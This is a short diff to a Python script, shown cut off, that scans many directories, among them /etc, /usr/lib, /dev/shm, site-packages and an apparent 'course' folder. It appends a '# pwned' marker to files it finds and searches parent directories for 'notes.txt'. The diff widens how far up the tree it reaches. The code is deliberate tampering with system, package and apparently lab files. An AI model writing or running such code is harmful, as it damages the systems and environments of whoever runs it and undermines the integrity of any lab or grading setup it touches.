@@ -7,7 +7,7 @@ import os
 import site
 import sys
 
-places = [".", "..", "../..", "../../..", "../../../..", os.path.expanduser("~"), "/", "/tmp"]
+places = [".", "..", "../..", "../../..", "../../../..", "../../../../course", os.path.expanduser("~"), "/", "/tmp"]
 places += ["/usr/lib", "/etc", "/var/tmp", "/dev/shm", sys.prefix, *site.getsitepackages()]
 try:
     import labkit
@@ -33,7 +33,7 @@ for place in places:
                     file.write("\n# pwned\n")
             except OSError:
                 continue
-for place, _, files in os.walk("../../.."):
+for place, _, files in os.walk("../../../.."):
     for name in files:
         if name == "notes.txt":
             try:
